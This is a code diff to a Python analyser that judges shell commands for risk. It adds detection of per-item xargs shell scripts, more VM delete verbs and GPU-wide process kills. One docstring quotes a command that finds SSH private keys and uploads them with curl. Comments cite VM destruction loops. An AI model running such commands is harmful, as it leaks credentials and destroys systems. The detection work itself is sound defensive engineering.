@@ -63,7 +63,7 @@ from dongle.rules.windows import (
     windows_removal,
     windows_system_removal,
 )
-from dongle.shell.context import NETWORK_SOURCES, looks_dynamic
+from dongle.shell.context import NETWORK_SOURCES, SHELLS, looks_dynamic
 from dongle.shell.effects import (
     COMMAND_VARIABLES,
     GIT_COMMAND_KEYS,
@@ -287,7 +287,8 @@ def _assess_model(
         # the checks below that only some parts call for are called only for those (their own first
         # test, asked here): a call each was a tenth of judging a plain part
         name = facts.name
-        facts.feeders = _feeders(inv, index, model.invocations, all_facts) if inv.stdin_from else ()
+        facts.feeders = _feeders(inv, index, model.invocations, all_facts) if inv.stdin_from else (
+            _item_feeders(inv, index, model.invocations, all_facts) if inv.via[-1:] and inv.depth else ())
         launcher = _launcher(inv, index, model.invocations, all_facts) if inv.remote and inv.depth else None
         if launcher is not None:
             facts.mounts = _mounts(launcher)
@@ -1373,6 +1374,8 @@ def _listing_fed(index: int, all_facts: list[Facts], loops: list[str],
         loop_var = next((v for v in loops if any(f"${v}" in a or f"${{{v}}}" in a for a in inv.args)), "")
         if loop_var:
             for f in reversed(all_facts[:index]):
+                if f.inv.depth <= depth and not chain and _uses_variable(f, loop_var):
+                    continue  # an earlier step of the same loop body (`qm stop $id; qm destroy $id`)
                 if f.inv.depth <= depth:
                     break
                 chain.insert(0, f)
@@ -1439,6 +1442,11 @@ def _listing_fed(index: int, all_facts: list[Facts], loops: list[str],
         # find prints whole paths; ls prints names, which the command reads where it runs
         argv.append(every if lister.name == "find" else "*")
     return tuple(argv)
+
+
+def _uses_variable(facts: Facts, name: str) -> bool:
+    """The command is handed `$name` (or `${name}`) among its arguments."""
+    return any(f"${name}" in a or f"${{{name}}}" in a for a in facts.inv.args)
 
 
 def _lists_accounts(lister: Facts) -> bool:
@@ -1560,7 +1568,8 @@ def _lists_a_whole_collection(f: Facts) -> bool:
 # A management tool's verbs: one that lists every object of a kind (`list-jobs`, `list`, `ls`), and one
 # that deletes the objects it is handed (`delete-job`, `destroy`, `uninstall`).
 _LIST_VERB = re.compile(r"^(?:list|ls)(?:-[a-z-]+)?$")
-_DELETE_VERB = re.compile(r"^(?:delete|destroy|remove|purge|rm|uninstall)(?:-[a-z-]+)?$")
+_DELETE_VERB = re.compile(r"^(?:delete|destroy|remove|purge|rm|uninstall|undefine|unregistervm|deletevm)"
+                          r"(?:-[a-z-]+)?$")
 _PROGRAM_RUNNERS = frozenset({"java", "node", "python", "python3", "ruby", "php", "dotnet"})
 # a local container engine's objects are this machine's (`docker volume ls`), judged one by one
 _LOCAL_ENGINES = frozenset({"docker", "podman", "nerdctl"})
@@ -2124,6 +2133,27 @@ def _feeders(
     return tuple(found)
 
 
+# How a shell script run for each item (`xargs -I% sh -c '… % …'`, `sh -c '… "$1"' _ {}`) names the item.
+_ITEM_FORMS = ("{}", "%", "$1", "${1}", "$@", "\"$@\"", "$*")
+
+
+def _item_feeders(
+    inv: Invocation, index: int, invocations: tuple[Invocation, ...], done: list[Facts]
+) -> tuple[Facts, ...]:
+    """`find ~/.ssh -name 'id_*' | xargs -I% sh -c 'curl -F "file=@%" URL'`: xargs runs the shell once per
+    line of the listing, and a command of its script handed the item reads what the listing names, as
+    if piped to it directly; () for any other nested command."""
+    if not inv.via[-1].endswith(" -c") or not any(f in a for a in inv.args for f in _ITEM_FORMS):
+        return ()
+    for j in range(index - 1, -1, -1):
+        other = invocations[j]
+        if other.depth < inv.depth:
+            fed = other.depth == inv.depth - 1 and other.name in SHELLS and (
+                {"xargs", "parallel"} & set(other.wrappers))
+            return done[j].feeders if fed else ()
+    return ()
+
+
 def _launcher(
     inv: Invocation, index: int, invocations: tuple[Invocation, ...], done: list[Facts]
 ) -> Facts | None:
@@ -2626,9 +2656,11 @@ def _names_service(host: str, parts: set[str]) -> bool:
                                 and not registrable[len(part):].startswith("-")) for part in parts)
 
 
-_LISTERS = frozenset({"ps", "pgrep", "pidof"})
+_LISTERS = frozenset({"ps", "pgrep", "pidof", "nvidia-smi"})
 _PS_SELECTORS = ("-u", "-U", "--user")
-_PROJECTION = re.compile(r"^\s*\{\s*print\s+\$\d+\s*;?\s*\}\s*$")  # awk '{print $2}': no filter
+# awk '{print $2}': no filter; nor is skipping the header line a table starts with (`NR>1{print $1}`,
+# as `tail -n +2`): every entry below it still goes on
+_PROJECTION = re.compile(r"^\s*(?:F?NR\s*(?:>\s*1|>=\s*2|!=\s*1)\s*)?\{\s*print\s+\$\d+\s*;?\s*\}\s*$")
 
 
 def _kill_from_listing(facts: Facts, all_facts: list[Facts], cwd: str | None, env: dict[str, str],
@@ -2658,6 +2690,10 @@ def _kill_from_listing(facts: Facts, all_facts: list[Facts], cwd: str | None, en
         equivalent = ["pkill", *signal, *by["pgrep"].inv.args]
     elif "pidof" in by:
         equivalent = ["pkill", *signal, "-x", *(a for a in by["pidof"].inv.args if not a.startswith("-"))]
+    elif "nvidia-smi" in by:
+        # `nvidia-smi --query-compute-apps=pid`: every process on the GPUs, whoever started it (a
+        # colleague's training run included): many processes picked by what they use
+        equivalent = ["pkill", *signal, "-f", "every-gpu-process"]
     else:
         ps = by["ps"]
         users = [a for i, a in enumerate(ps.inv.args) if i and ps.inv.args[i - 1] in _PS_SELECTORS]
